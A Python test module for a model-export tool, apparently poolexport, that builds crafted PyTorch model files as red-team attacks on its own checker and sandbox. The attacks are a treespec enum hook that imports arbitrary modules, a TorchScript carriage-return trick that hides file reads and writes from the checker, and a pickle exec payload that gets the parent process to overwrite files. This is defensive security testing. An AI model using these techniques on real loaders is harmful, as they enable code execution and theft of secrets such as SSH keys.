"""Second red-team round: crafted model files for attack classes the first round's rules
(tests/_attacks.py) were not written for. Builders have the same shape as there,
``build_X(dst: Path, marker: Path) -> Path``, start from real files (``torch.export.save``
/ ``torch.jit.save`` of small networks) and reuse round 1's helpers.

* :func:`build_treespec_enum_import` (.pt2): a pytree context JSON object with an
  ``"__enum__"`` key. torch's ``treespec_loads`` parses every container context with
  ``json.loads(..., object_hook=enum_object_hook)``, and that hook does
  ``importlib.import_module(<any module>)``, a ``getattr`` walk over any attribute names
  (dunders included) and ``obj[<any string>]``. The treespec grammar only checks that the
  context is plain JSON, so the file passes every check.
* :func:`build_ts_cr_hidden_call_write` / :func:`build_ts_cr_hidden_call_read`
  (TorchScript): code that Python's tokenizer (which the checker uses) reads as a string
  and TorchScript's lexer reads as code. Python ends a comment at ``\\r``, TorchScript's
  lexer only at ``\\n`` (``\\r`` is blank to it, torch/csrc/jit/frontend/lexer.h), so
  ``# \\r    \"\"\"`` opens a triple-quoted string for Python only; every later line up to a
  ``# \"\"\"`` is a string constant to the checker and ordinary code to TorchScript. Any
  operator, e.g. ``aten::from_file``, can then be called from ``__setstate__``, which
  ``torch.jit.load`` runs.
* :func:`build_child_output_names` (torch.save pickle, *sandbox only*): what code running
  inside the contained child (by any of the routes above, or memory corruption) can do to
  the user's files through the parent: the parent moves every external-data file that the
  child's ONNX names, under the name the child chose, into the output folder, replacing
  what is there.
"""
from __future__ import annotations

import json
import os
import pickle
import stat
from pathlib import Path
from typing import Tuple

import torch

import _attacks
from _attacks import INPUT_SHAPE, TAG, _edit_program, _edited, _entries, _plain_path, _scratch, _write_zip


# ------------------------------------------------------------------ A: treespec context enum hook (.pt2)
def browser_script(marker: Path) -> Path:
    """The victim's web browser, for the tests: an executable that creates ``marker``.
    ``webbrowser`` runs ``$BROWSER``; on a desktop it runs the real browser (xdg-open)."""
    return Path(marker).with_name(Path(marker).name + ".browser")


def treespec_enum_env(marker: Path) -> dict:
    return {"BROWSER": os.fspath(browser_script(marker))}


def build_treespec_enum_import(dst: Path, marker: Path) -> Path:
    """The root ``in_spec``'s inner tuple gets the context

        {"__enum__": true, "fqn": "antigravity:__dict__", "name": "__doc__"}

    instead of ``null``. ``torch.export.load`` -> ``deserialize_module_call_signature`` ->
    ``treespec_loads`` -> ``json.loads(context, object_hook=enum_object_hook)``
    (torch/utils/_pytree.py) runs ``importlib.import_module("antigravity")``, whose import
    calls ``webbrowser.open(...)``: a program is started (the user's browser, on the network)
    while the file loads. Then ``getattr(antigravity, "__dict__")["__doc__"]`` is ``None``,
    exactly the context torch wrote, so the program loads and exports normally.

    The import is only the visible part: ``fqn`` names any importable module and any chain
    of attributes (``__globals__``, ``__builtins__``, ...), and ``name`` any key handed to
    that object's ``__getitem__`` (``ctypes.cdll[<path>]`` is a ``dlopen``). The same
    ``import_module`` + ``getattr`` is reachable through a ``collections.defaultdict`` node
    (``_defaultdict_deserialize``: ``default_factory_module`` / ``default_factory_name``),
    also accepted by the treespec grammar.
    """
    script = browser_script(marker)
    script.write_text(f"#!/bin/sh\ntouch {_plain_path(marker)}\n")
    script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    hook = {"__enum__": True, "fqn": "antigravity:__dict__", "name": "__doc__"}

    def change(program):
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(signature["in_spec"])
        args_node = spec[1]["children_spec"][0]
        assert args_node["type"] == "builtins.tuple" and args_node["context"] == "null", args_node
        args_node["context"] = json.dumps(hook)
        signature["in_spec"] = json.dumps(spec)
    return _write_zip(dst, _edited(_attacks.base_pt2(), _edit_program(change)))


# ------------------------------------------------------------------ B: TorchScript \r lexer differential
class Stamp(torch.nn.Module):
    """A leaf with its own ``__getstate__``/``__setstate__`` (as quantized modules have):
    ``torch.jit.load`` calls ``__setstate__`` with the pickled state. ``blob`` is a small
    float buffer appended to the output as features."""

    def __init__(self, n: int = 8):
        super().__init__()
        self.tag = TAG
        self.blob = torch.zeros(n)

    def forward(self, x):
        return torch.cat([x.flatten(1), self.blob.unsqueeze(0).expand(x.size(0), -1)], 1)

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, torch.Tensor, bool]:
        return (self.tag, self.blob, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, torch.Tensor, bool]) -> None:
        self.tag = state[0]
        self.blob = state[1]
        self.training = state[2]


class StampedNet(torch.nn.Module):
    def __init__(self, inner, n: int = 8):
        super().__init__()
        self.inner = inner
        self.stamp = Stamp(n)

    def forward(self, x):
        return self.stamp(self.inner(x))


SECRET = b"user-secret-0123456789abcdef\n"  # stands for a private file of the user (an SSH key)


def base_stamped_ts(n: int = len(SECRET)) -> Path:
    """``torch.jit.save`` of the traced base network inside :class:`StampedNet` (scripted),
    with poolexport's input-shape extra file."""
    path = _scratch() / f"stamped_base_{n}.ts"
    if not path.exists():
        with torch.no_grad():
            traced = torch.jit.trace(_attacks.base_network(), (torch.randn(*INPUT_SHAPE),), check_trace=False)
        torch.jit.save(torch.jit.script(StampedNet(traced, n)), os.fspath(path),
                       _extra_files={_attacks.EXTRA_FILE: json.dumps({"input_shape": INPUT_SHAPE})})
    return path


def hide_from_python(lines: list[str], indent: str = "    ") -> str:
    """TorchScript source lines that Python's tokenizer reads as one string constant:
    ``_h = 0 # <CR><indent>\"\"\"`` ... ``# \"\"\"``. TorchScript's lexer treats ``\\r`` as a
    blank and skips the comment to ``\\n``; Python ends the comment at ``\\r`` and starts a
    new line whose triple quote swallows the lines that follow."""
    body = "".join(f"{indent}{line}\n" for line in lines)
    return f'{indent}_h = 0 # \r{indent}"""\n{body}{indent}# """\n'


def _with_hidden_setstate_code(src: Path, dst: Path, lines: list[str]) -> Path:
    def edit(name, data):
        if name.endswith("/code/__torch__/_attacks_round2.py"):
            anchor = b"    self.training = (state)[2]\n"
            if data.count(anchor) != 1:
                raise AssertionError("base stamped archive: __setstate__ not as expected")
            return data.replace(anchor, anchor + hide_from_python(lines).encode())
        return data
    return _write_zip(dst, _edited(src, edit))


def build_ts_cr_hidden_call_write(dst: Path, marker: Path) -> Path:
    """``Stamp.__setstate__`` gets, hidden from the checker,

        self.training = torch.from_file("MARKER", True, 1).numel() == 1

    ``aten::from_file`` (refused by name when visible) maps MARKER shared, creating it,
    during ``torch.jit.load``. The module loads and runs normally afterwards."""
    return _with_hidden_setstate_code(
        base_stamped_ts(), dst, [f'self.training = torch.from_file("{_plain_path(marker)}", True, 1).numel() == 1',
                                 "self.training = (state)[2]"])


def secret_file(marker: Path) -> Path:
    return Path(marker).with_name("secret.txt")


def build_ts_cr_hidden_call_read(dst: Path, marker: Path) -> Path:
    """``Stamp.__setstate__`` gets, hidden from the checker,

        self.blob = torch.from_file("<folder>/secret.txt", False, n, dtype=0).float()

    so the module's ``blob`` buffer, which ``forward`` appends to its output and which the
    ONNX export writes as a constant, is the bytes of a file of the user's (here
    ``secret.txt`` beside the marker, created by this builder; in the wild ``~/.ssh/id_rsa``
    or a cloud credentials file). Reads are not confined, so this runs to the end inside
    poolexport's sandbox and the secret leaves in ``out.onnx`` (which users publish). The
    marker is not used."""
    secret = secret_file(marker)
    secret.write_bytes(SECRET)
    return _with_hidden_setstate_code(
        base_stamped_ts(len(SECRET)), dst,
        [f'self.blob = torch.from_file("{_plain_path(secret)}", False, {len(SECRET)}, dtype=0).float()'])


def secret_floats() -> bytes:
    """How :data:`SECRET` appears in a float32 ONNX constant."""
    return torch.tensor(list(SECRET), dtype=torch.float32).numpy().tobytes()


# ------------------------------------------------------------------ C: the parent moves what the child names
_CHILD_PAYLOAD = '''
import os
marker = {marker!r}
if not os.environ.get("POOLEXPORT_CONTAINED"):
    open(marker, "w").write("pwned\\n")  # plain torch: any code at all
else:
    import onnx
    from poolexport import cli
    original = cli._save
    def _save(proto, output):
        original(proto, output)
        name = os.path.basename(marker)
        with open(os.path.join(os.path.dirname(output), name), "w") as f:
            f.write("# written by the model file, placed by poolexport's parent process\\n")
        t = onnx.TensorProto(name="x_external", data_type=onnx.TensorProto.UINT8, dims=[1])
        t.data_location = onnx.TensorProto.EXTERNAL
        t.external_data.add(key="location", value=name)
        proto.graph.initializer.append(t)
        onnx.save(proto, str(output))
    cli._save = _save
'''


class _Exec:
    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code, {"__name__": "_payload"})  # one namespace: the payload defines a closure


class _ExecThenModule:
    def __init__(self, code, module):
        self.code, self.module = code, module

    def __reduce__(self):
        import operator

        return operator.getitem, ((_Exec(self.code), self.module), 1)


CHILD_INPUT_SHAPE = "x".join(map(str, INPUT_SHAPE))


def build_child_output_names(dst: Path, marker: Path) -> Path:
    """A ``torch.save``d full module whose unpickling runs Python (a stand-in for code
    execution inside the contained child by any route: run with the test-only switch
    ``POOLEXPORT_TEST_UNCHECKED_LOAD=1``, which loads it unchecked inside the enforced
    sandbox). The payload, confined, wraps the CLI's ``_save``: after the ONNX
    file is written, it writes a file named like MARKER into the scratch output folder and
    adds an initializer whose external data ``location`` is that name. The parent
    (cli.py ``_run_contained``) checks only that the location is a plain file beside the
    model, then ``shutil.move``s it to ``<folder of -o>/<name>``, replacing any file of that
    name: ``conftest.py``, ``sitecustomize.py``, ``.envrc``, ``Makefile``, ``.bashrc`` when
    ``-o`` is in the home folder. Here the name is MARKER's, and MARKER lies beside
    ``out.onnx``. Under plain torch (``torch.load(f, weights_only=False)``) the payload just
    writes MARKER.
    """
    code = _CHILD_PAYLOAD.format(marker=_plain_path(marker))
    torch.save(_ExecThenModule(code, _attacks.base_network()), os.fspath(dst), pickle_protocol=2)
    return dst


# ------------------------------------------------------------------ registry
_HEAD = _attacks._HEAD
TRIGGERS = dict(_attacks.TRIGGERS)
TRIGGERS["ts-state"] = _HEAD + (
    "m = torch.jit.load(sys.argv[1])\n"
    "y = m(torch.randn(*%r))\n"
    "print('BLOB', bytes(int(v) for v in m.stamp.blob.tolist()))\n") % (INPUT_SHAPE,)
TRIGGERS["torch.load"] = _HEAD + "torch.load(sys.argv[1], weights_only=False)\n"


from dataclasses import dataclass, field  # noqa: E402
from typing import Callable  # noqa: E402


@dataclass(frozen=True)
class Attack:
    build: Callable[[Path, Path], Path]
    trigger: str  # a key of TRIGGERS
    suffix: str
    group: str  # "A" treespec, "B" TorchScript lexer, "C" parent/child
    env: Callable[[Path], dict] = lambda marker: {}
    cli_args: tuple = ()
    cli_env: dict = field(default_factory=dict)


ATTACKS: dict[str, Attack] = {
    "treespec_enum_import": Attack(build_treespec_enum_import, "pt2", ".pt2", "A", env=treespec_enum_env),
    "ts_cr_hidden_call_write": Attack(build_ts_cr_hidden_call_write, "ts-state", ".pt", "B"),
    "ts_cr_hidden_call_read": Attack(build_ts_cr_hidden_call_read, "ts-state", ".pt", "B"),
    "child_output_names": Attack(build_child_output_names, "torch.load", ".pt", "C",
                                 cli_args=("--input-shape", CHILD_INPUT_SHAPE),
                                 cli_env={"POOLEXPORT_TEST_UNCHECKED_LOAD": "1"}),
}
